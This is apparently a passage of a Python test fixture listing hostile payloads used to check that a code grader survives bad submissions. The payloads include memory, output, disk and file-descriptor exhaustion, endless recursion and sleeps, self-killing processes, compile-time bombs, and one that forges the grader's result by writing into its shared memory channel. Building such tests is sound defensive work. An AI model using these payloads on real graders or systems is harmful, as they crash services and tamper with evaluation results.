        "memory-dict-comprehension",
        "memory",
        "d = {i: str(i) for i in range(10 ** 9)}\n",
        "a dictionary with a billion entries",
    ),
    _p(
        "output-flood",
        "output",
        "while True:\n    print('x' * 1000)\n",
        "floods the grader with output",
    ),
    _p(
        "output-one-huge-print",
        "output",
        "print('x' * 10 ** 7)\n",
        "one print of 10 MB",
    ),
    _p(
        "output-sys-stdout",
        "output",
        "import sys\nwhile True:\n    sys.stdout.write('x' * 10 ** 5)\n",
        "writes to sys.stdout directly",
    ),
    _p(
        "recursion-plain",
        "deep recursion",
        "def f():\n    return f()\nf()\n",
        "recursion without end",
        "runtime_error:RecursionError",
    ),
    _p(
        "recursion-raised-limit",
        "deep recursion",
        "import sys\nsys.setrecursionlimit(10 ** 7)\ndef f(n):\n    return f(n + 1)\nf(0)\n",
        "overflows the C stack after lifting the recursion limit",
    ),
    _p(
        "recursion-nested-repr",
        "deep recursion",
        "x = []\nfor _ in range(10 ** 6):\n    x = [x]\nprint(x)\n",
        "repr of a million nested lists",
        "runtime_error:RecursionError",
    ),
    _p(
        "wall-sleep",
        "wall clock",
        "import time\ntime.sleep(10 ** 6)\n",
        "sleeps without using the CPU",
    ),
    _p(
        "wall-sleep-swallowed",
        "wall clock",
        "import time\n"
        "while True:\n"
        "    try:\n"
        "        time.sleep(100)\n"
        "    except BaseException:\n"
        "        pass\n",
        "sleeps again whenever it is woken",
    ),
    _p(
        "wall-sleep-in-exception-str",
        "wall clock",
        "import time\n"
        "class E(Exception):\n"
        "    def __str__(self):\n"
        "        time.sleep(100)\n"
        "        return 'late'\n"
        "raise E()\n",
        "sleeps when the grader formats the error",
        "runtime_error:E",
    ),
    _p(
        "wall-signal-pause",
        "wall clock",
        "import signal\nsignal.pause()\n",
        "waits for a signal that never comes",
    ),
    # -- abrupt ends -----------------------------------------------------------------------
    _p(
        "exit-systemexit",
        "abrupt ends",
        "raise SystemExit(3)\n",
        "ends the interpreter",
        "runtime_error:SystemExit",
    ),
    _p(
        "exit-builtin-exit",
        "abrupt ends",
        "print('bye')\nexit()\nprint('never')\n",
        "ends the interpreter",
        "ok",
    ),
    _p(
        "exit-keyboardinterrupt",
        "abrupt ends",
        "raise KeyboardInterrupt\n",
        "looks like Ctrl-C to the grader",
        "runtime_error:KeyboardInterrupt",
    ),
    _p(
        "exit-systemexit-hostile-code",
        "abrupt ends",
        "class Code:\n"
        "    def __str__(self):\n"
        "        raise ValueError('no')\n"
        "    def __repr__(self):\n"
        "        raise ValueError('no')\n"
        "    def __eq__(self, other):\n"
        "        raise ValueError('no')\n"
        "    __hash__ = None\n"
        "raise SystemExit(Code())\n",
        "an exit code whose str() fails inside the grader",
        "runtime_error:SystemExit",
    ),
    _p(
        "exit-os-_exit",
        "abrupt ends",
        "import os\nos._exit(0)\n",
        "ends the process without a result",
    ),
    _p(
        "exit-os-abort",
        "abrupt ends",
        "import os\nos.abort()\n",
        "aborts the process",
    ),
    _p(
        "exit-self-sigkill",
        "abrupt ends",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
        "kills itself",
    ),
    # -- compile-time bombs ----------------------------------------------------------------
    _p(
        "compile-deep-unary",
        "compile-time bombs",
        "x = " + "-" * 100_000 + "1\n",
        "100,000 nested unary minus signs",
    ),
    _p(
        "compile-long-chain",
        "compile-time bombs",
        "x = " + "1 + " * 30_000 + "1\n",
        "a 30,000-term sum nests as deeply",
        "syntax_error:RecursionError",
    ),
    _p(
        "compile-nested-brackets",
        "compile-time bombs",
        "x = " + "[" * 5000 + "]" * 5000 + "\n",
        "5,000 nested brackets",
        "syntax_error:SyntaxError",
    ),
    _p(
        "compile-huge-source",
        "compile-time bombs",
        "x = 1\n" * 300_000,
        "a 300,000-line program",
    ),
    # -- disk and descriptors --------------------------------------------------------------
    _p(
        "disk-huge-file",
        "disk",
        "import os\n"
        "fd = os.open('$marker', os.O_CREAT | os.O_WRONLY, 0o644)\n"
        "while True:\n"
        "    os.write(fd, b'x' * 10 ** 6)\n",
        "fills the disk",
    ),
    _p(
        "fd-exhaust-dup",
        "file descriptors",
        "import os\nfds = []\nwhile True:\n    fds.append(os.dup(0))\n",
        "uses up file descriptors",
    ),
    _p(
        "fd-exhaust-pipes",
        "file descriptors",
        "import os\npipes = []\nwhile True:\n    pipes.append(os.pipe())\n",
        "uses up file descriptors with pipes",
    ),
    # -- the result channel ----------------------------------------------------------------
    _p(
        "result-forged",
        "result forgery",
        "import os, struct, sys\n"
        "frame = sys._getframe()\n"
        "while 'channel' not in frame.f_locals:\n"
        "    frame = frame.f_back\n"
        "region = frame.f_locals['channel'].region\n"
        'forged = b\'{"status": "no such status", "calls": 5}\'\n'
        "head = struct.calcsize('<QQB')\n"
        "start = head + 16 * 1024 * 1024\n"
        "region[start:start + len(forged)] = forged\n"
        "region[0:head] = struct.pack('<QQB', 0, len(forged), 0)\n"
        "os._exit(0)\n",
        "writes its own malformed result into the channel, to make the grader raise",
    ),
)

CATEGORIES: tuple[str, ...] = tuple(dict.fromkeys(p.category for p in PAYLOADS))
